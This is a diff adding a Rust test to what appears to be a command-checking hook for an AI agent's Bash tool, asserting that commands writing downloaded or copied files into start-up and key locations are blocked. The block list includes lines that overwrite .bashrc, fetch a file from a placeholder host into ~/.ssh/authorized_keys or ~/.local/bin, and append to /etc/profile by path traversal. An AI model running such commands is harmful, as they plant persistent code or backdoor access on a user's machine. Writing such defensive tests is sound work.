@@ -421,6 +421,66 @@ fn downloads_over_start_up_files_are_blocked_however_spelt() {
     }
 }
 
+/// A file copied, extracted or downloaded into a folder is judged as the
+/// file it becomes there: `cp /tmp/.bashrc ~` writes `~/.bashrc`, and a
+/// folder copied or unpacked into the home folder brings files no one has
+/// seen into it.
+#[test]
+fn what_lands_in_a_folder_is_judged_by_where_it_lands() {
+    let sb = Sandbox::new();
+    for command in [
+        "cp /tmp/dot/.bashrc ~",
+        "mv /tmp/dot/.zshrc ~/",
+        "ln -s /tmp/dot/.zshenv ~",
+        "rsync /tmp/dot/.bashrc ~",
+        "scp host:/srv/dot/.profile ~/",
+        "cp -t ~ /tmp/dot/.bashrc",
+        "cp --target-directory=$HOME /tmp/dot/.bashrc",
+        "install -t ~ /tmp/dot/.bashrc",
+        "ln -st ~ /tmp/dot/.bashrc",
+        "cp -a /tmp/dot/. ~",
+        "cp -r /tmp/dot/.ssh ~",
+        "rsync -a /tmp/dot/ ~",
+        "cp -r /tmp/systemd ~/.config/",
+        "tar -xf dots.tar -C ~",
+        "tar xf dots.tar --directory=$HOME",
+        "curl -sL https://x.example/d.tgz | tar xz -C ~",
+        "unzip -od ~ dots.zip",
+        "cd ~ && tar xf /tmp/dots.tar",
+        "cd ~ && curl -sLO https://x.example/.bashrc",
+        "cd ~/.ssh && curl -O https://x.example/authorized_keys",
+        "curl -sLO --output-dir ~ https://x.example/.bashrc",
+        "wget -P ~/.local/bin https://x.example/git",
+        "wget --directory-prefix=$HOME https://x.example/.bashrc",
+        "cd ~/.local/bin && wget -q https://x.example/git",
+        "echo x >> ../../../../../../../etc/profile",
+        "cd .. && cd ../../../../.. && echo x >> etc/profile",
+    ] {
+        assert_eq!(
+            answer(&sb, "Bash", json!({"command": command})),
+            "block",
+            "{command}"
+        );
+    }
+    for command in [
+        "cp /tmp/report.txt ~",
+        "cp -r assets/ dist/",
+        "mv notes.md docs/",
+        "tar -xf vendor.tar -C third_party",
+        "tar xzf release.tgz",
+        "unzip -o data.zip -d data",
+        "curl -sLO https://x.example/data.csv",
+        "wget -P downloads https://x.example/data.csv",
+        "wget -P ~/Downloads https://x.example/data.csv",
+    ] {
+        assert_eq!(
+            answer(&sb, "Bash", json!({"command": command})),
+            "allow",
+            "{command}"
+        );
+    }
+}
+
 /// A git hook runs at the user's next commit: one downloaded is blocked,
 /// one copied or linked from a file ahp cannot read asks, and one written
 /// in the open is judged on its text; removing one is free.
